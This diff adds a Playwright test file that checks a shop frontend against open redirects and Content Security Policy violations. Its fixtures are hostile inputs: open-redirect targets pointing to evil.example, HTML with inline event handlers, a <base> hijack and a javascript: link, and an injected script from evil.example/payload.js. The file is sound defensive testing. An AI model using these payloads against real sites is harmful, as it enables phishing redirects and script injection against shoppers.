@@ -1,0 +1,135 @@
+import { randomUUID } from 'node:crypto';
+import type { Page } from '@playwright/test';
+import { expect, slot, test } from './fixtures';
+
+/*
+ * Issue 19, item 5, in the browser: a content redirect never takes the shopper
+ * to another origin unless the tenant allows the host, and CMS HTML renders
+ * without a single CSP violation report, while a real violation is reported.
+ * Each test prints one summary line.
+ */
+
+/** Content redirect rules as an editor's typo or a compromised content account could write them. */
+const HOSTILE_TARGETS = [
+  '/\\evil.example',
+  '\\\\evil.example',
+  '/\t/evil.example',
+  'https:evil.example',
+  '//evil.example',
+  '/%5Cevil.example',
+  'https://evil.example/',
+  'https://www.frischmarkt.example@evil.example/',
+  'javascript:alert(document.domain)',
+];
+
+/** Every navigation of the page's main frame that leaves the shop's origin. */
+function offOriginNavigations(page: Page, origin: string): string[] {
+  const left: string[] = [];
+  page.on('framenavigated', (frame) => {
+    if (frame === page.mainFrame() && !frame.url().startsWith(origin) && frame.url() !== 'about:blank') left.push(frame.url());
+  });
+  page.on('request', (request) => {
+    if (request.isNavigationRequest() && !request.url().startsWith(origin)) left.push(request.url());
+  });
+  return left;
+}
+
+test.describe('content redirects (issue 19)', () => {
+  test('a rule whose target a browser reads as another origin does not leave the shop; a path rule still redirects', async ({ page, baseURL, consoleErrors }) => {
+    void consoleErrors;
+    const origin = new URL(baseURL ?? '').origin;
+    const rules = Object.fromEntries(HOSTILE_TARGETS.map((target, index) => [`/alt-${index}`, target]));
+    // The backend refuses to store such rules: the table is served as a compromised content system would.
+    await page.route('**/api/content/redirects', (route) =>
+      route.fulfill({ json: { oneToOne: { ...rules, '/alt-gut': '/angebote' }, manyToOne: {}, manyToMany: { '/umzug/': '/' } } }),
+    );
+    const left = offOriginNavigations(page, origin);
+    let stayed = 0;
+    for (const source of [...Object.keys(rules), '/umzug//evil.example']) {
+      await page.goto(source);
+      // The shell has rendered its frame for the path: the redirect (if any) has been decided.
+      await expect(page.getByRole('banner')).toBeVisible({ timeout: 15_000 });
+      expect(new URL(page.url()).origin, source).toBe(origin);
+      if (new URL(page.url()).pathname === new URL(source, origin).pathname) stayed += 1;
+    }
+    await page.goto('/alt-gut');
+    await expect(page).toHaveURL(/\/angebote$/, { timeout: 15_000 });
+    console.log(`content redirects: ${HOSTILE_TARGETS.length + 1} hostile rules, ${stayed} stayed on their page, navigations off the origin ${left.length}, path rule followed 1`);
+    expect(left).toEqual([]);
+    expect(stayed).toBe(HOSTILE_TARGETS.length + 1);
+  });
+});
+
+/** CMS HTML with everything that raised reports when it was parsed in the page's own document. */
+const NOISY_HTML =
+  '<p style="color:red" onclick="alert(1)">Inline-Stil und Handler</p>' +
+  '<base href="https://evil.example/">' +
+  '<style>body { background: red }</style>' +
+  '<img src="/media/og/frischmarkt.png" alt="" onerror="alert(2)" style="width:1px">' +
+  '<div style="background:url(https://evil.example/x.png)">Hintergrund</div>' +
+  '<a href="javascript:alert(3)" style="color:blue">Link</a>' +
+  '<svg><style>p{}</style></svg><math><mi style="x">m</mi></math>';
+
+/** The violations the backend logged for pages whose URL carries the probe id. */
+async function reportedViolations(page: Page, probe: string): Promise<Array<{ directive: string; blocked: string }>> {
+  const response = await page.request.get(`/__test/csp-reports?document=${probe}`);
+  expect(response.ok()).toBe(true);
+  return ((await response.json()) as { violations: Array<{ directive: string; blocked: string }> }).violations;
+}
+
+/** Counts the page's own securitypolicyviolation events (the same violations the browser reports). */
+async function countViolationsInPage(page: Page): Promise<void> {
+  await page.addInitScript(() => {
+    (window as unknown as { __violations: string[] }).__violations = [];
+    document.addEventListener('securitypolicyviolation', (event) =>
+      (window as unknown as { __violations: string[] }).__violations.push(`${event.effectiveDirective} ${event.blockedURI}`),
+    );
+  });
+}
+const violationsInPage = (page: Page) => page.evaluate(() => (window as unknown as { __violations: string[] }).__violations);
+
+test.describe('CSP reports (issue 19)', () => {
+  test('a page with CMS HTML full of inline styles, handlers and <base> reports no violation', async ({ page, consoleErrors }) => {
+    void consoleErrors;
+    const probe = randomUUID();
+    await countViolationsInPage(page);
+    // The privacy page's custom HTML block, as a careless editor (or an attacker) could fill it.
+    await page.route('**/api/content/pages?*', async (route) => {
+      const response = await route.fetch();
+      const body = (await response.json()) as { blocks?: Array<{ type: string; fields?: { html?: string } }> };
+      for (const block of body.blocks ?? []) if (block.type === 'custom-html' && block.fields) block.fields.html = NOISY_HTML + (block.fields.html ?? '');
+      await route.fulfill({ response, json: body });
+    });
+    await page.goto(`/datenschutz?probe=${probe}`);
+    const content = slot(page, 'route:index');
+    await expect(content.getByText('Inline-Stil und Handler')).toBeVisible({ timeout: 15_000 });
+    await expect(content.getByRole('heading', { name: 'Verantwortlich' })).toBeVisible();
+    // The clean start page too.
+    await page.goto(`/?probe=${probe}`);
+    await expect(slot(page, 'route:index').getByRole('heading', { level: 1 }).first()).toBeVisible({ timeout: 15_000 });
+    // A report is sent as the violation happens; a moment for one in flight to arrive, then none may have come.
+    await page.waitForTimeout(1_000);
+    const inPage = await violationsInPage(page);
+    const reported = await reportedViolations(page, probe);
+    console.log(`csp reports, clean pages with CMS HTML: 2 pages, violations in the page ${inPage.length}, reported ${reported.length}`);
+    expect(inPage).toEqual([]);
+    expect(reported).toEqual([]);
+  });
+
+  // Without the console check of the fixtures: the browser writes the blocked script to the console, as it should.
+  test('a real violation is reported and logged', async ({ page }) => {
+    const probe = randomUUID();
+    await page.goto(`/?probe=${probe}`);
+    await expect(slot(page, 'route:index').getByRole('heading', { level: 1 }).first()).toBeVisible({ timeout: 15_000 });
+    // What an injection would try: a script from another site. The policy blocks it and reports it.
+    await page.evaluate(() => {
+      const script = document.createElement('script');
+      script.src = 'https://evil.example/payload.js';
+      document.head.append(script);
+    });
+    await expect.poll(async () => (await reportedViolations(page, probe)).length, { timeout: 10_000 }).toBeGreaterThan(0);
+    const reported = await reportedViolations(page, probe);
+    console.log(`csp reports, injected script: reported ${reported.length} (${reported.map((v) => `${v.directive} ${v.blocked}`).join(', ')})`);
+    expect(reported).toContainEqual(expect.objectContaining({ directive: 'script-src-elem', blocked: 'https://evil.example/payload.js' }));
+  });
+});
